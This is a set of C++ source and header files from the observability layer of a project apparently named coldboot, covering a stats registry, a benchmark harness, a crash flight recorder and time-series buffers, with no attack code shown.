                    out += jsonNumber(s.bucket_edges[i]);
                }
                out += "], \"bucket_counts\": [";
                for (size_t i = 0; i < s.bucket_counts.size(); ++i) {
                    if (i)
                        out += ", ";
                    out += std::to_string(s.bucket_counts[i]);
                }
                out += "]";
            }
            break;
          }
        }
        out += "}";
    }
    out += "\n  }\n}\n";
    return out;
}

void
StatRegistry::writeJsonFile(const std::string &path) const
{
    writeFileCreatingDirs(path, dumpJson(), "stats output");
}

void
flushEnvRequestedOutputs()
{
    if (const char *path = std::getenv("COLDBOOT_STATS_JSON");
        path && *path)
        StatRegistry::global().writeJsonFile(path);
    if (const char *path = std::getenv("COLDBOOT_TRACE");
        path && *path)
        PhaseTracer::global().writeTraceFile(path);
}

} // namespace coldboot::obs
