#include "obs/bench.hh"

#include <algorithm>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <cstring>

#ifdef __unix__
#include <fcntl.h>
#include <sys/resource.h>
#include <sys/utsname.h>
#include <unistd.h>
#endif

#include "common/logging.hh"
#include "common/rng.hh"
#include "obs/json.hh"
#include "obs/stats.hh"
#include "obs/trace.hh"

namespace coldboot::obs::bench
{

//
// Robust statistics kernel
//

double
percentile(const std::vector<double> &sorted, double p)
{
    cb_assert(!sorted.empty(), "percentile of an empty sample");
    cb_assert(p >= 0.0 && p <= 100.0, "percentile %g out of range", p);
    if (sorted.size() == 1)
        return sorted[0];
    double rank = p / 100.0 * static_cast<double>(sorted.size() - 1);
    size_t lo = static_cast<size_t>(rank);
    size_t hi = std::min(lo + 1, sorted.size() - 1);
    double frac = rank - static_cast<double>(lo);
    return sorted[lo] + (sorted[hi] - sorted[lo]) * frac;
}

double
median(std::vector<double> samples)
{
    if (samples.empty())
        return 0.0;
    std::sort(samples.begin(), samples.end());
    return percentile(samples, 50.0);
}

double
medianAbsDeviation(const std::vector<double> &samples)
{
    if (samples.empty())
        return 0.0;
    double med = median(samples);
    std::vector<double> dev;
    dev.reserve(samples.size());
    for (double v : samples)
        dev.push_back(std::fabs(v - med));
    return median(std::move(dev));
}

SampleStats
summarize(const std::vector<double> &samples, unsigned resamples,
          uint64_t seed)
{
    SampleStats s;
    s.n = samples.size();
    if (samples.empty())
        return s;

    std::vector<double> sorted = samples;
    std::sort(sorted.begin(), sorted.end());
    s.min = sorted.front();
    s.max = sorted.back();

    double sum = 0.0, sum_sq = 0.0;
    for (double v : samples) {
        sum += v;
        sum_sq += v * v;
    }
    s.mean = sum / static_cast<double>(s.n);
    double var =
        sum_sq / static_cast<double>(s.n) - s.mean * s.mean;
    s.stddev = var > 0.0 ? std::sqrt(var) : 0.0;

    s.median = percentile(sorted, 50.0);
    s.mad = medianAbsDeviation(samples);

    // Percentile bootstrap of the median: resample with replacement,
    // take each resample's median, report the [2.5, 97.5] percentiles
    // of that bootstrap distribution. Deterministic under the fixed
    // seed, so two summaries of the same samples always agree.
    if (resamples == 0 || s.n < 2) {
        s.ci95_lo = s.ci95_hi = s.median;
        return s;
    }
    Xoshiro256StarStar rng(seed);
    std::vector<double> boot_medians;
    boot_medians.reserve(resamples);
    std::vector<double> resample(s.n);
    for (unsigned r = 0; r < resamples; ++r) {
        for (size_t i = 0; i < s.n; ++i)
            resample[i] = sorted[rng.nextBelow(s.n)];
        std::sort(resample.begin(), resample.end());
        boot_medians.push_back(percentile(resample, 50.0));
    }
    std::sort(boot_medians.begin(), boot_medians.end());
    s.ci95_lo = percentile(boot_medians, 2.5);
    s.ci95_hi = percentile(boot_medians, 97.5);
    return s;
}

//
// Registration
//

std::vector<BenchInfo> &
benchRegistry()
{
    static std::vector<BenchInfo> registry;
    return registry;
}

int
registerBench(const char *name, BenchFn fn)
{
    for (const auto &info : benchRegistry())
        cb_assert(info.name != name,
                  "bench '%s' registered twice", name);
    benchRegistry().push_back({name, fn});
    return 0;
}

void
BenchContext::report(const std::string &key, double value,
                     const std::string &desc)
{
    report_map[key] = Report{value, desc};
    // The same figure through the PR-1 registry, so --stats-json /
    // COLDBOOT_STATS_JSON exports carry it too.
    StatRegistry::global().setScalar("bench." + key, value, desc);
}

//
// Runner
//

namespace
{

/**
 * Redirect stdout to /dev/null for repetitions whose table output
 * would just repeat the first one's. No-op if /dev/null cannot be
 * opened.
 */
class StdoutMuter
{
  public:
    explicit StdoutMuter(bool mute)
    {
#ifdef __unix__
        if (!mute)
            return;
        std::fflush(stdout);
        saved_fd = dup(STDOUT_FILENO);
        int devnull = open("/dev/null", O_WRONLY);
        if (saved_fd < 0 || devnull < 0) {
            if (devnull >= 0)
                close(devnull);
            return;
        }
        dup2(devnull, STDOUT_FILENO);
        close(devnull);
        active = true;
#else
        (void)mute;
#endif
    }

    ~StdoutMuter()
    {
#ifdef __unix__
        if (active) {
            std::fflush(stdout);
            dup2(saved_fd, STDOUT_FILENO);
        }
        if (saved_fd >= 0)
            close(saved_fd);
#endif
    }

  private:
    int saved_fd = -1;
    bool active = false;
};

uint64_t
maxRssKib()
{
#ifdef __unix__
    rusage usage{};
    if (getrusage(RUSAGE_SELF, &usage) == 0)
        return static_cast<uint64_t>(usage.ru_maxrss);
#endif
    return 0;
}

/** First "model name" line of /proc/cpuinfo, or "unknown". */
std::string
cpuModelName()
{
    std::FILE *f = std::fopen("/proc/cpuinfo", "r");
    if (!f)
        return "unknown";
    char line[512];
    std::string model = "unknown";
    while (std::fgets(line, sizeof(line), f)) {
        if (std::strncmp(line, "model name", 10) == 0) {
            const char *colon = std::strchr(line, ':');
            if (colon) {
                model = colon + 1;
                while (!model.empty() &&
                       (model.front() == ' ' || model.front() == '\t'))
                    model.erase(model.begin());
                while (!model.empty() && (model.back() == '\n' ||
                                          model.back() == '\r'))
                    model.pop_back();
            }
            break;
        }
    }
    std::fclose(f);
    return model;
}

/** `git rev-parse` of the working tree we run from, or "unknown". */
std::string
gitSha()
{
#ifdef __unix__
    std::FILE *p =
        popen("git rev-parse --short=12 HEAD 2>/dev/null", "r");
    if (!p)
        return "unknown";
    char buf[64] = {};
    std::string sha;
    if (std::fgets(buf, sizeof(buf), p))
        sha = buf;
    pclose(p);
    while (!sha.empty() && (sha.back() == '\n' || sha.back() == '\r'))
        sha.pop_back();
    return sha.empty() ? "unknown" : sha;
#else
    return "unknown";
#endif
}

} // anonymous namespace

EnvironmentInfo
collectEnvironment()
{
    EnvironmentInfo env;
#if defined(__clang__)
    env.compiler = std::string("clang ") + __VERSION__;
#elif defined(__GNUC__)
    env.compiler = std::string("gcc ") + __VERSION__;
#else
    env.compiler = "unknown";
#endif
#ifdef COLDBOOT_BUILD_TYPE
    env.build_type = COLDBOOT_BUILD_TYPE;
#else
    env.build_type = "unknown";
#endif
#ifdef COLDBOOT_CXX_FLAGS
    env.cxx_flags = COLDBOOT_CXX_FLAGS;
#else
    env.cxx_flags = "";
#endif
    env.cpu = cpuModelName();
#ifdef __unix__
    utsname uts{};
    if (uname(&uts) == 0)
        env.os = std::string(uts.sysname) + " " + uts.release + " " +
                 uts.machine;
    else
        env.os = "unknown";
#else
    env.os = "unknown";
#endif
    env.git_sha = gitSha();
    return env;
}

BenchResult
runBench(const BenchInfo &info, const RunConfig &config)
{
    BenchResult result;
    result.name = info.name;

    BenchContext ctx(info.name, config.smoke);
    PerfCounters counters;
    result.counters_unavailable_reason = counters.unavailableReason();

    for (int w = 0; w < config.warmup; ++w) {
        StdoutMuter mute(true);
        info.fn(ctx);
    }

    std::vector<double> wall_ns;
    wall_ns.reserve(static_cast<size_t>(config.repetitions));
    PerfSample total;
    total.available = counters.available();
    for (int rep = 0; rep < config.repetitions; ++rep) {
        StdoutMuter mute(config.quiet || rep > 0);
        ScopedSpan span("bench." + info.name);
        counters.start();
        auto t0 = std::chrono::steady_clock::now();
        info.fn(ctx);
        auto t1 = std::chrono::steady_clock::now();
        total += counters.stop();
        span.stop();
        wall_ns.push_back(
            std::chrono::duration<double, std::nano>(t1 - t0)
                .count());
    }

    result.wall_ns = summarize(wall_ns, config.bootstrap_resamples,
                               config.bootstrap_seed);
    result.counters = total;
    result.max_rss_kib = maxRssKib();
    result.reports = ctx.reports();

    double median_s = result.wall_ns.median * 1e-9;
    if (median_s > 0.0) {
        result.bytes_per_second =
            static_cast<double>(ctx.bytesProcessed()) / median_s;
        result.items_per_second =
            static_cast<double>(ctx.itemsProcessed()) / median_s;
    }

    // Headline figures through the registry, same naming scheme as
    // the reports.
    auto &registry = StatRegistry::global();
    std::string prefix = "bench." + info.name;
    registry.setScalar(prefix + ".median_ns", result.wall_ns.median,
                       "median repetition wall time");
    registry.setScalar(prefix + ".mad_ns", result.wall_ns.mad,
                       "median absolute deviation of wall time");
    if (ctx.bytesProcessed())
        registry.setScalar(prefix + ".bytes_per_second",
                           result.bytes_per_second,
                           "derived throughput at the median time");
    return result;
}

std::string
resultTableHeader()
{
    char buf[160];
    std::snprintf(buf, sizeof(buf),
                  "%-22s %12s %12s %12s %10s %8s %10s", "bench",
                  "median ms", "ci95 ms", "mad ms", "MiB/s", "ipc",
                  "rss MiB");
    return buf;
}

std::string
resultTableRow(const BenchResult &result)
{
    char ci[32];
    std::snprintf(ci, sizeof(ci), "%.2f-%.2f",
                  result.wall_ns.ci95_lo * 1e-6,
                  result.wall_ns.ci95_hi * 1e-6);
    char ipc[16];
    if (result.counters.available)
        std::snprintf(ipc, sizeof(ipc), "%8.2f",
                      result.counters.ipc());
    else
        std::snprintf(ipc, sizeof(ipc), "%8s", "n/a");
    char buf[200];
    std::snprintf(buf, sizeof(buf),
                  "%-22s %12.3f %12s %12.3f %10.1f %s %10.1f",
                  result.name.c_str(), result.wall_ns.median * 1e-6,
                  ci, result.wall_ns.mad * 1e-6,
                  result.bytes_per_second / (1024.0 * 1024.0), ipc,
                  static_cast<double>(result.max_rss_kib) / 1024.0);
    return buf;
}

namespace
{

std::string
sampleStatsJson(const SampleStats &s)
{
    using json::number;
    std::string out = "{";
    out += "\"n\": " + std::to_string(s.n);
    out += ", \"min\": " + number(s.min);
    out += ", \"max\": " + number(s.max);
    out += ", \"mean\": " + number(s.mean);
    out += ", \"stddev\": " + number(s.stddev);
    out += ", \"median\": " + number(s.median);
    out += ", \"mad\": " + number(s.mad);
    out += ", \"ci95_lo\": " + number(s.ci95_lo);
    out += ", \"ci95_hi\": " + number(s.ci95_hi);
    out += "}";
    return out;
}

std::string
countersJson(const BenchResult &r)
{
    using json::escape;
    const PerfSample &c = r.counters;
    if (!c.available) {
        return "{\"available\": false, \"reason\": \"" +
               escape(r.counters_unavailable_reason) + "\"}";
    }
    std::string out = "{\"available\": true";
    out += ", \"cycles\": " + std::to_string(c.cycles);
    out += ", \"instructions\": " + std::to_string(c.instructions);
    out += ", \"ipc\": " + json::number(c.ipc());
    out += ", \"cache_references\": " +
           std::to_string(c.cache_references);
    out += ", \"cache_misses\": " + std::to_string(c.cache_misses);
    out += ", \"branches\": " + std::to_string(c.branches);
    out += ", \"branch_misses\": " + std::to_string(c.branch_misses);
    out += "}";
    return out;
}

} // anonymous namespace

std::string
resultsToJson(const RunConfig &config, const EnvironmentInfo &env,
              const std::vector<BenchResult> &results)
{
    using json::escape;
    using json::number;

    std::string out = "{\n";
    out += "  \"schema_version\": " +
           std::to_string(benchJsonSchemaVersion) + ",\n";
    out += "  \"profile\": \"" +
           std::string(config.smoke ? "smoke" : "full") + "\",\n";
    out += "  \"repetitions\": " +
           std::to_string(config.repetitions) + ",\n";
    out += "  \"warmup\": " + std::to_string(config.warmup) + ",\n";
    out += "  \"environment\": {\n";
    out += "    \"compiler\": \"" + escape(env.compiler) + "\",\n";
    out += "    \"build_type\": \"" + escape(env.build_type) +
           "\",\n";
    out += "    \"cxx_flags\": \"" + escape(env.cxx_flags) + "\",\n";
    out += "    \"cpu\": \"" + escape(env.cpu) + "\",\n";
    out += "    \"os\": \"" + escape(env.os) + "\",\n";
    out += "    \"git_sha\": \"" + escape(env.git_sha) + "\"\n";
    out += "  },\n";
    out += "  \"benches\": [";
    bool first_bench = true;
    for (const auto &r : results) {
        out += first_bench ? "\n" : ",\n";
        first_bench = false;
        out += "    {\"name\": \"" + escape(r.name) + "\",\n";
        out += "     \"wall_ns\": " + sampleStatsJson(r.wall_ns) +
               ",\n";
        out += "     \"bytes_per_second\": " +
               number(r.bytes_per_second) + ",\n";
        out += "     \"items_per_second\": " +
               number(r.items_per_second) + ",\n";
        out += "     \"max_rss_kib\": " +
               std::to_string(r.max_rss_kib) + ",\n";
        out += "     \"counters\": " + countersJson(r) + ",\n";
        out += "     \"reports\": {";
        bool first_report = true;
        for (const auto &kv : r.reports) {
            out += first_report ? "\n" : ",\n";
            first_report = false;
            out += "       \"" + escape(kv.first) +
                   "\": {\"value\": " + number(kv.second.value) +
                   ", \"desc\": \"" + escape(kv.second.desc) + "\"}";
        }
        out += first_report ? "}" : "\n     }";
        out += "\n    }";
    }
    out += "\n  ]\n}\n";
    return out;
}

} // namespace coldboot::obs::bench
