/**
 * @file
 * Post-mortem flight recorder: a fixed-size per-thread ring of
 * compact binary events (span begin/end, log records, counter
 * deltas) that can be dumped from an async-signal context, so a
 * SIGSEGV three hours into a mining run still tells you what every
 * thread was doing in its last moments.
 *
 * Event encoding: each event is exactly `wordsPerEvent` (10) 64-bit
 * words - timestamp, kind, two payload words, and 48 bytes of
 * NUL-padded name - stored in an array of `std::atomic<uint64_t>`.
 * The owning thread writes the words relaxed and then publishes with
 * a release store of the ring head; readers (the `/flight` endpoint,
 * the crash handler, a concurrent test) acquire the head and read
 * the words relaxed. A reader racing a wraparound can observe a torn
 * event (mixed old/new words) but never undefined behavior and never
 * a torn *word*; the dump format is robust to that (every decoded
 * field is bounded) and the window is the oldest slot only.
 *
 * Signal-safety argument for the dump path (writePostMortem):
 * it allocates nothing, takes no locks, and calls only write(2)
 * plus hand-rolled integer/string formatting into stack buffers;
 * ring access is atomic loads. The crash handler additionally only
 * open(2)s the pre-configured dump path (stored in a fixed char
 * array at install time) and re-raises the signal with disposition
 * reset so the process still dies with the original signal. The
 * stats snapshot embedded in the dump is pre-rendered on the normal
 * path (updateStatsSnapshot, refreshed by the telemetry sampler
 * tick) into a seqlock-protected atomic byte buffer, so the handler
 * copies bytes instead of walking registry data structures.
 *
 * Determinism: recording is observation-only - it never feeds back
 * into attack results - and the hot path is a single relaxed load
 * when disabled, so the DESIGN.md §9 contract holds byte-identically
 * with the recorder on or off (gated by tests/smoke_flight).
 */

#ifndef COLDBOOT_OBS_FLIGHT_HH
#define COLDBOOT_OBS_FLIGHT_HH

#include <atomic>
#include <chrono>
#include <cstddef>
#include <cstdint>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

namespace coldboot::obs
{

/** What a flight event records. Stable numeric values: they appear
 *  in dumps and must stay decodable across versions. */
enum class FlightKind : uint64_t
{
    None = 0,
    /** A span opened; a = span id, b = parent span id. */
    SpanBegin = 1,
    /** A span closed; a = span id, b = duration in microseconds. */
    SpanEnd = 2,
    /** A log record; a = level (0 warn, 1 info), name = message. */
    Log = 3,
    /** A progress/counter delta; a = delta, b = running total. */
    Counter = 4,
    /** cb_fatal fired; name = message. */
    Fatal = 5,
};

/** One decoded flight event (tests and the JSON renderers). */
struct FlightEvent
{
    uint64_t ts_us = 0;
    FlightKind kind = FlightKind::None;
    uint64_t a = 0;
    uint64_t b = 0;
    std::string name;
};

/**
 * The process-global flight recorder. Disabled (and unallocated)
 * until setEnabled(true); once enabled, every thread that records
 * claims one ring for its lifetime. installCrashHandler() arms the
 * SIGSEGV/SIGBUS/SIGABRT and cb_fatal dump paths.
 */
class FlightRecorder
{
  public:
    /** Events retained per thread. */
    static constexpr size_t eventCapacity = 256;
    /** Rings available; threads past this count drop (counted). */
    static constexpr size_t maxRings = 256;
    /** Name payload bytes per event (NUL-padded, truncated). */
    static constexpr size_t nameBytes = 48;
    /** 64-bit words per encoded event: ts, kind, a, b, name. */
    static constexpr size_t wordsPerEvent = 4 + nameBytes / 8;

    /** The process-global recorder (constructs it if needed). */
    static FlightRecorder &global();

    /**
     * The global recorder if it has ever been constructed, else
     * nullptr. Async-signal-safe (one atomic load, never
     * constructs); the crash handler's entry point.
     */
    static FlightRecorder *instance();

    /**
     * Turn recording on (allocating the rings on first enable,
     * ~maxRings * eventCapacity * 80 bytes) or off. Off keeps the
     * rings and their contents; only new records stop.
     */
    void setEnabled(bool on);

    bool enabled() const
    {
        return is_enabled.load(std::memory_order_relaxed);
    }

    /**
     * Record one event into the calling thread's ring. A single
     * relaxed load and return when disabled; never blocks, never
     * allocates after the rings exist. @p name is truncated to
     * nameBytes.
     */
    void record(FlightKind kind, const char *name, uint64_t a = 0,
                uint64_t b = 0);

    /** Events not recorded (disabled ring claim or exhaustion). */
    uint64_t droppedEvents() const
    {
        return dropped.load(std::memory_order_relaxed);
    }

    /** Rings claimed by threads so far. */
    size_t ringsInUse() const;

    /**
     * Arm crash forensics: record span/log events from here on,
     * install SIGSEGV/SIGBUS/SIGABRT handlers and the cb_fatal /
     * log hooks, and write the post-mortem JSON to @p path when any
     * of them fires. Also takes an initial stats snapshot. Enables
     * recording.
     */
    void installCrashHandler(const std::string &path);

    /** Dump path configured by installCrashHandler ("" if unset). */
    std::string crashDumpPath() const;

    /**
     * Re-render the registry stats snapshot that the crash handler
     * embeds in dumps. Cheap enough to call per telemetry tick;
     * takes the registry lock, so normal path only.
     */
    void updateStatsSnapshot();

    /**
     * Async-signal-safe post-mortem dump: write the last events of
     * every ring plus the pre-rendered stats snapshot as JSON to
     * @p fd. @p sig is the fatal signal (0 for cb_fatal paths),
     * @p reason a short static label. @p crashing_ring is the ring
     * index of the faulting thread, -1 if unknown.
     */
    void writePostMortem(int fd, int sig, const char *reason,
                         int crashing_ring) const;

    /**
     * Async-signal-safe: open the configured crash path and write a
     * post-mortem there (silent no-op when no path is configured),
     * then note the dump location on stderr. Called by the fatal
     * signal handler and the cb_fatal hook; exposed for tests.
     */
    void crashDump(int sig, const char *reason);

    /**
     * Normal-path JSON of the recorder state (the `/flight`
     * endpoint): same shape as the post-mortem dump with
     * `"reason": "live"`.
     */
    std::string dumpJson() const;

    /** Decoded events of ring @p ring, oldest first (tests). */
    std::vector<FlightEvent> ringEvents(size_t ring) const;

    /** The calling thread's ring index (claiming one if enabled);
     *  -1 when unavailable. */
    int myRingIndex();

    /**
     * Disable recording, zero every ring, and clear drop counts.
     * Ring claims made by live threads stay valid. Does not remove
     * installed signal handlers.
     */
    void resetForTest();

  private:
    FlightRecorder();

    struct Ring;

    Ring *myRing();

    /** Microseconds since recorder construction. */
    uint64_t nowUs() const;

    std::atomic<bool> is_enabled{false};
    std::atomic<uint64_t> dropped{0};
    std::atomic<uint32_t> rings_claimed{0};
    /** Allocated on first enable; the singleton is deliberately
     *  leaked, so the signal handler may read the rings at any time
     *  for the life of the process. */
    std::unique_ptr<Ring[]> rings_owned;
    std::atomic<Ring *> rings{nullptr};
    mutable std::mutex alloc_mu;
    std::chrono::steady_clock::time_point epoch;

    /** Fixed storage so the handler never touches std::string. */
    char crash_path[512] = {};
    std::atomic<bool> handler_installed{false};

    /** Seqlock-protected pre-rendered stats JSON (see file docs). */
    static constexpr size_t statsSnapCapacity = 64 * 1024;
    std::atomic<uint32_t> snap_seq{0};
    std::atomic<uint32_t> snap_len{0};
    std::unique_ptr<std::atomic<unsigned char>[]> snap_buf;
    std::mutex snap_writer_mu;
};

namespace detail
{

/**
 * Async-signal-safe decimal formatting of @p v into @p buf.
 * @return Characters written (no NUL appended); 0 if @p cap is too
 * small.
 */
size_t flightFormatUint(uint64_t v, char *buf, size_t cap);

/** Static label for a FlightKind ("span_begin", "log", ...). */
const char *flightKindName(uint64_t kind);

} // namespace detail

} // namespace coldboot::obs

#endif // COLDBOOT_OBS_FLIGHT_HH
