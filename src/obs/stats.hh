/**
 * @file
 * gem5-style statistics registry (the idiom common/logging.hh already
 * borrows from): named scalar counters, distributions/histograms,
 * and rate stats, collected in a thread-safe process-global registry
 * and exportable as a flat text or JSON dump.
 *
 * Naming scheme: `layer.component.metric`, e.g.
 * `attack.miner.blocks_scanned` or `engine.latency.ChaCha8.
 * window_exposure_ns`. Per-channel components append the channel
 * (`memctrl.ch0.reads`). Every bench, test and the coldboot-tool CLI
 * report through this one code path, so throughput/exposure/decay
 * figures are regression-trackable from a single JSON artifact.
 */

#ifndef COLDBOOT_OBS_STATS_HH
#define COLDBOOT_OBS_STATS_HH

#include <atomic>
#include <chrono>
#include <cstdint>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

namespace coldboot::obs
{

/** Monotonically increasing event count (lock-free increment). */
class Counter
{
  public:
    void add(uint64_t n = 1)
    {
        count.fetch_add(n, std::memory_order_relaxed);
    }

    uint64_t value() const
    {
        return count.load(std::memory_order_relaxed);
    }

    void reset() { count.store(0, std::memory_order_relaxed); }

  private:
    std::atomic<uint64_t> count{0};
};

/** Point-in-time copy of a Distribution's accumulated state. */
struct DistributionSnapshot
{
    uint64_t count = 0;
    double min = 0.0;
    double max = 0.0;
    double sum = 0.0;
    double mean = 0.0;
    /** Population standard deviation; 0 for fewer than 2 samples. */
    double stddev = 0.0;
    /** Sorted bucket edges (may be empty). */
    std::vector<double> bucket_edges;
    /**
     * bucket_edges.size() + 1 counts: (-inf, e0), [e0, e1), ...,
     * [e_last, +inf). Empty when no edges were configured.
     */
    std::vector<uint64_t> bucket_counts;
};

/**
 * Sampled-value distribution: min/max/mean/stddev plus optional
 * fixed-bucket histogram. sample() takes a mutex, so it is safe from
 * any thread and cheap relative to the simulation work per sample.
 */
class Distribution
{
  public:
    /** @param bucket_edges Strictly increasing edges (may be empty). */
    explicit Distribution(std::vector<double> bucket_edges = {});

    void sample(double value);

    DistributionSnapshot snapshot() const;

    void reset();

  private:
    mutable std::mutex mu;
    std::vector<double> edges;
    std::vector<uint64_t> buckets;
    uint64_t n = 0;
    double sum = 0.0;
    double sum_sq = 0.0;
    double vmin = 0.0;
    double vmax = 0.0;
};

/**
 * Events per wall-second: a counter whose dump also reports the
 * elapsed time since the rate was created and the derived rate.
 */
class Rate
{
  public:
    Rate() : start(std::chrono::steady_clock::now()) {}

    void add(uint64_t n = 1) { events.add(n); }

    uint64_t value() const { return events.value(); }

    /** Wall-clock seconds since creation (or the last reset). */
    double seconds() const;

    /** Events per wall-second; 0 when no time has elapsed. */
    double perSecond() const;

    void reset();

  private:
    Counter events;
    std::chrono::steady_clock::time_point start;
};

/**
 * Point-in-time typed copy of one registry entry - the enumeration
 * unit the live telemetry plane (sampler, Prometheus exporter) is
 * built on. `value` carries the counter count, the scalar, or the
 * rate's event count; rates additionally fill `per_second` and
 * distributions fill `dist`.
 */
struct StatSnapshot
{
    enum class Type { Counter, Scalar, Rate, Distribution };

    std::string name;
    std::string desc;
    Type type = Type::Counter;
    double value = 0.0;
    /** Events per wall-second (Type::Rate only). */
    double per_second = 0.0;
    /** Accumulated distribution state (Type::Distribution only). */
    DistributionSnapshot dist;
};

/**
 * The process-global (or test-local) registry of named stats.
 *
 * Lookup returns stable references: a Counter/Distribution/Rate
 * obtained once can be cached and used lock-free for the lifetime of
 * the registry (resetForTest() zeroes values but never invalidates
 * references).
 */
class StatRegistry
{
  public:
    StatRegistry();

    /** The process-global registry instance. */
    static StatRegistry &global();

    /** Find-or-create a counter. */
    Counter &counter(const std::string &name,
                     const std::string &desc = "");

    /**
     * Find-or-create a distribution. Bucket edges are only applied
     * on creation; later lookups ignore them.
     */
    Distribution &distribution(const std::string &name,
                               const std::string &desc = "",
                               std::vector<double> bucket_edges = {});

    /** Find-or-create a rate. */
    Rate &rate(const std::string &name, const std::string &desc = "");

    /**
     * Set a named scalar (an externally computed figure, e.g. a bench
     * result or a derived throughput). Non-finite values are stored
     * as 0 so the JSON dump stays valid.
     */
    void setScalar(const std::string &name, double value,
                   const std::string &desc = "");

    /** Whether a stat of any kind exists under @p name. */
    bool has(const std::string &name) const;

    /** Value of a counter (0 when absent or not a counter). */
    uint64_t counterValue(const std::string &name) const;

    /** Value of a scalar (0 when absent or not a scalar). */
    double scalarValue(const std::string &name) const;

    /** Wall-clock seconds since registry creation / last reset. */
    double wallSeconds() const;

    /**
     * Typed point-in-time copy of every stat, name-sorted (the map
     * order). One consistent pass under the registry lock; safe to
     * call concurrently with any updates.
     */
    std::vector<StatSnapshot> snapshotAll() const;

    /**
     * Zero every stat and restart the wall clock. References stay
     * valid. Intended for tests and long-lived servers rolling over
     * a measurement epoch.
     */
    void resetForTest();

    /** Human-readable flat dump, one stat per line, name-sorted. */
    std::string dumpText() const;

    /**
     * Machine-readable dump:
     * {"meta": {"wall_seconds": ...}, "stats": {name: {...}, ...}}
     * with a "type" discriminator per stat.
     */
    std::string dumpJson() const;

    /** Write dumpJson() to @p path (cb_fatal on I/O error). */
    void writeJsonFile(const std::string &path) const;

  private:
    enum class Kind { CounterKind, DistributionKind, RateKind,
                      ScalarKind };

    struct Entry
    {
        Kind kind;
        std::string desc;
        Counter counter;
        std::unique_ptr<Distribution> dist;
        std::unique_ptr<Rate> rate;
        std::atomic<double> scalar{0.0};
    };

    Entry &findOrCreate(const std::string &name, Kind kind,
                        const std::string &desc);

    mutable std::mutex mu;
    /** Name-ordered for deterministic dumps; values are stable. */
    std::map<std::string, std::unique_ptr<Entry>> entries;
    std::chrono::steady_clock::time_point epoch;
};

/**
 * Honor the COLDBOOT_STATS_JSON / COLDBOOT_TRACE environment
 * variables: when set, write the global registry's JSON dump and the
 * global tracer's Chrome trace to the named files. Benches call this
 * once before exiting so `COLDBOOT_STATS_JSON=BENCH_x.json bench_x`
 * produces the machine-readable figures through the same code path
 * the CLI flags use.
 */
void flushEnvRequestedOutputs();

} // namespace coldboot::obs

#endif // COLDBOOT_OBS_STATS_HH
