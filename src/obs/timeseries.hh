/**
 * @file
 * Fixed-capacity time-series ring buffers - the storage layer of the
 * live telemetry plane (obs/sampler.hh).
 *
 * A RingSeries holds the last N samples of one metric: for each
 * sampler tick the absolute value, the delta against the previous
 * tick, the instantaneous rate (delta / tick interval) and a
 * smoothed EWMA rate. Capacity is fixed at construction, so a
 * sampler that runs for days holds the same memory as one that ran
 * for a minute - the bounded-memory guarantee DESIGN.md §11 leans
 * on. The ring itself is a plain single-writer container; the
 * TelemetrySampler serializes access with its own lock.
 */

#ifndef COLDBOOT_OBS_TIMESERIES_HH
#define COLDBOOT_OBS_TIMESERIES_HH

#include <cstddef>
#include <cstdint>
#include <string>
#include <vector>

namespace coldboot::obs
{

/** One sampler tick of one metric. */
struct SeriesPoint
{
    /** Wall-clock sample time, milliseconds since the Unix epoch. */
    double unix_ms = 0.0;
    /** Absolute metric value at the tick. */
    double value = 0.0;
    /** Change since the previous tick (0 on the first). */
    double delta = 0.0;
    /** delta / tick-interval, events per second (0 on the first). */
    double rate = 0.0;
};

/**
 * Fixed-capacity ring of SeriesPoints, oldest-first iteration.
 * push() overwrites the oldest point once full; memory never grows
 * after construction.
 */
class RingSeries
{
  public:
    /** @param capacity Maximum retained points (>= 1 enforced). */
    explicit RingSeries(size_t capacity);

    size_t capacity() const { return ring.size(); }

    /** Points currently held (<= capacity()). */
    size_t size() const { return count; }

    bool empty() const { return count == 0; }

    /** Append a point, evicting the oldest when full. */
    void push(const SeriesPoint &p);

    /** @p i-th retained point, 0 = oldest (i < size()). */
    const SeriesPoint &at(size_t i) const;

    /** Most recent point (size() must be nonzero). */
    const SeriesPoint &latest() const;

    /** Copy of the retained points, oldest first. */
    std::vector<SeriesPoint> points() const;

    /** Drop every point (capacity unchanged). */
    void clear();

  private:
    std::vector<SeriesPoint> ring;
    size_t head = 0; // index of the oldest point
    size_t count = 0;
};

/**
 * Point-in-time copy of one metric's ring plus its smoothed rate -
 * what TelemetrySampler::seriesSnapshot() hands to the exporters, so
 * rendering never holds the sampler lock.
 */
struct SeriesSnapshot
{
    std::string name;
    /** "counter", "scalar", "rate" or "distribution_count". */
    std::string kind;
    /** Exponentially weighted moving average of the per-tick rate. */
    double ewma_rate = 0.0;
    std::vector<SeriesPoint> points;
};

} // namespace coldboot::obs

#endif // COLDBOOT_OBS_TIMESERIES_HH
