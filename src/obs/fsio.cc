#include "obs/fsio.hh"

#include <cerrno>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <system_error>

#include "common/logging.hh"

namespace coldboot::obs
{

void
writeFileCreatingDirs(const std::string &path,
                      std::string_view content, const char *what)
{
    std::filesystem::path parent =
        std::filesystem::path(path).parent_path();
    if (!parent.empty()) {
        std::error_code ec;
        std::filesystem::create_directories(parent, ec);
        if (ec)
            cb_fatal("cannot create directory '%s' for %s '%s': %s",
                     parent.c_str(), what, path.c_str(),
                     ec.message().c_str());
    }
    std::FILE *f = std::fopen(path.c_str(), "wb");
    if (!f)
        cb_fatal("cannot open %s '%s': %s", what, path.c_str(),
                 std::strerror(errno));
    if (std::fwrite(content.data(), 1, content.size(), f) !=
        content.size()) {
        int err = errno;
        std::fclose(f);
        cb_fatal("short write to %s '%s': %s", what, path.c_str(),
                 std::strerror(err));
    }
    if (std::fclose(f) != 0)
        cb_fatal("cannot finish writing %s '%s': %s", what,
                 path.c_str(), std::strerror(errno));
}

} // namespace coldboot::obs
