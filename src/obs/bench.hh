/**
 * @file
 * The unified benchmark harness every `bench/bench_*.cc` registers
 * into (google-benchmark-style static registration, but in-tree and
 * integrated with the obs layer).
 *
 * A benchmark is a function `void name(BenchContext &)` registered
 * with `COLDBOOT_BENCH(name)`. The `coldboot-bench` driver runs each
 * registered bench with warmup + repetition control, times every
 * repetition, reads hardware counters around it (obs::PerfCounters,
 * with a graceful fallback when `perf_event_open` is denied), records
 * the `getrusage` RSS high-water mark, and computes robust statistics
 * over the repetition times: min/max, mean/stddev, median, MAD, and a
 * 95% confidence interval for the median via a deterministic
 * percentile bootstrap.
 *
